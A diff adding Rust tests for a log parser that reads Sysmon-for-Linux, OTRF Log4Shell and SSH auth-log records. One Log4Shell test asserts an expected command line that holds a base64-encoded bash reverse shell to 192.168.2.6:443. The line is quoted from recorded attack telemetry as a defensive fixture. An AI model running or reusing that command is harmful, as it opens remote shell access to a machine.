@@ -303,3 +303,166 @@ fn auditd_otrf_arp_discovery() {
     );
     assert_eq!(text(arp, "User").as_deref(), Some("1000"));
 }
+
+fn event_ids(events: &[Event]) -> BTreeMap<u32, usize> {
+    let mut m = BTreeMap::new();
+    for e in events {
+        if let Some(id) = e.meta.event_id {
+            *m.entry(id).or_default() += 1;
+        }
+    }
+    m
+}
+
+#[test]
+fn sysmon_for_linux_syslog_lines() {
+    let Some(root) = corpora() else { return };
+    let (format, ev, errs) = read_all(&root.join("sysmon-elastic/sysmon.first-29-lines.log"));
+    assert_eq!(format, Format::Syslog);
+    assert!(errs.is_empty(), "{errs:?}");
+    assert_eq!(ev.len(), 29);
+    let sysmon = on(&ev, "Linux-Sysmon/Operational");
+    let banner = on(&ev, "linux:syslog");
+    assert_eq!((sysmon.len(), banner.len()), (15, 14));
+    assert_eq!(
+        event_ids(&sysmon),
+        BTreeMap::from([(1, 4), (4, 1), (5, 8), (16, 1), (23, 1)])
+    );
+    let ids: Vec<_> = sysmon.iter().map(|e| e.meta.record_id.unwrap()).collect();
+    assert_eq!(ids, (0..15).collect::<Vec<u64>>());
+    let first = &sysmon[0];
+    assert_eq!(first.first("EventID"), Some(&Value::Int(16)));
+    assert_eq!(first.meta.computer.as_deref(), Some("james-ubuntu-demo"));
+    assert_eq!(
+        first.meta.timestamp.unwrap().to_rfc3339(),
+        "2021-10-24T17:05:38.412320+00:00"
+    );
+    let images: Vec<_> = sysmon.iter().filter_map(|e| text(e, "Image")).collect();
+    assert_eq!(
+        images.iter().filter(|i| *i == "<unknown process>").count(),
+        6
+    );
+    let b = &banner[0];
+    assert_eq!(text(b, "program").as_deref(), Some("sysmon"));
+    assert_eq!(text(b, "pid").as_deref(), Some("3041"));
+    assert_eq!(
+        text(b, "message").as_deref(),
+        Some("Sysmon v1.0.0 - Monitors system events")
+    );
+    assert_eq!(b.meta.computer.as_deref(), Some("james-ubuntu-demo"));
+}
+
+#[test]
+fn otrf_log4shell_sentinel_rows() {
+    let Some(root) = corpora() else { return };
+    let dir = root.join("otrf/log4shell");
+    let (format, ev, errs) = read_all(
+        &dir.join("syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"),
+    );
+    assert_eq!(format, Format::JsonLines);
+    assert!(errs.is_empty(), "{errs:?}");
+    assert_eq!(ev.len(), 93);
+    assert_eq!(on(&ev, "Linux-Sysmon/Operational").len(), 93);
+    assert_eq!(
+        event_ids(&ev),
+        BTreeMap::from([(1, 31), (3, 6), (5, 50), (11, 4), (23, 2)])
+    );
+    // The reverse shell spawned by java.
+    let shell = ev
+        .iter()
+        .find(|e| text(e, "CommandLine").is_some_and(|c| c.starts_with("bash -c {echo,")))
+        .unwrap();
+    assert_eq!(
+        text(shell, "CommandLine").as_deref(),
+        Some("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}")
+    );
+    assert_eq!(text(shell, "Image").as_deref(), Some("/bin/bash"));
+    assert_eq!(
+        text(shell, "ParentImage").as_deref(),
+        Some("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
+    );
+    assert_eq!(shell.meta.computer.as_deref(), Some("UBUNTU5"));
+    assert_eq!(shell.first("EventID"), Some(&Value::Int(1)));
+    // Damage: 16 rows with entities whose `;` became a space are repaired,
+    // one row cut at 2,012 chars keeps its fields before the cut.
+    let damaged: Vec<_> = ev.iter().filter_map(|e| text(e, "XmlDamage")).collect();
+    assert_eq!(damaged.len(), 17, "{damaged:?}");
+    assert_eq!(
+        damaged.iter().filter(|d| d.contains("cut at 2012")).count(),
+        1
+    );
+    let cut = ev
+        .iter()
+        .find(|e| text(e, "XmlDamage").is_some_and(|d| d.contains("cut")))
+        .unwrap();
+    assert_eq!(
+        text(cut, "ParentImage").as_deref(),
+        Some("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
+    );
+    // Cut inside ParentCommandLine: kept as far as it goes.
+    assert!(text(cut, "ParentCommandLine")
+        .unwrap()
+        .ends_with("-Dcatalina.base=/opt/tomcat -"));
+    assert!(text(cut, "XmlDamage")
+        .unwrap()
+        .contains("the value of Data `ParentCommandLine`"));
+    let unknown = ev
+        .iter()
+        .filter(|e| text(e, "Image").as_deref() == Some("<unknown process>"))
+        .count();
+    assert!(unknown >= 13, "{unknown}");
+    // `&quot SELECT … &quot ` repaired into quotes.
+    let select = ev
+        .iter()
+        .filter_map(|e| text(e, "CommandLine"))
+        .filter(|c| {
+            c.starts_with("sh -c /opt/omi/bin/omicli wql root/scx \"SELECT PercentUserTime")
+                && (c.ends_with("where Handle='2030'\" | grep =")
+                    || c.ends_with("where Handle='2106'\" | grep ="))
+        })
+        .count();
+    assert_eq!(select, 2);
+
+    // AUOMS rows: syslog rows, not auditd records.
+    let (_, ev, errs) =
+        read_all(&dir.join(
+            "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
+        ));
+    assert!(errs.is_empty());
+    assert_eq!(on(&ev, "linux:syslog").len(), 50);
+    assert!(ev
+        .iter()
+        .all(|e| text(e, "message").unwrap().starts_with("type=AUOMS_")));
+    assert_eq!(text(&ev[0], "program").as_deref(), Some("auoms"));
+}
+
+#[test]
+fn syslog_beats_auth_log() {
+    let Some(root) = corpora() else { return };
+    let (format, ev, errs) = read_all(&root.join("syslog-beats/auth-test.log"));
+    assert_eq!(format, Format::Syslog);
+    assert!(errs.is_empty());
+    assert_eq!(on(&ev, "linux:syslog").len(), 10);
+    let progs: Vec<_> = ev.iter().map(|e| text(e, "program").unwrap()).collect();
+    assert_eq!(
+        progs,
+        ["sshd", "sshd", "sshd", "sshd", "sudo", "sshd", "sudo", "sudo", "groupadd", "useradd"]
+    );
+    assert_eq!(
+        text(&ev[3], "message").as_deref(),
+        Some("Failed password for root from 216.160.83.57 port 29160 ssh2")
+    );
+    assert_eq!(ev[3].meta.computer.as_deref(), Some("slave22"));
+    let nosudo = &ev[7];
+    assert_eq!(text(nosudo, "SUDO_USER").as_deref(), Some("tsg"));
+    assert_eq!(text(nosudo, "USER").as_deref(), Some("root"));
+    assert_eq!(text(nosudo, "COMMAND").as_deref(), Some("/bin/ls"));
+    let t = ev[0].meta.timestamp.unwrap();
+    assert_eq!(t.format("%m-%d %H:%M:%S").to_string(), "02-21 21:54:44");
+    assert_eq!(
+        ev.iter()
+            .map(|e| e.meta.record_id.unwrap())
+            .collect::<Vec<_>>(),
+        (1..=10).collect::<Vec<u64>>()
+    );
+}
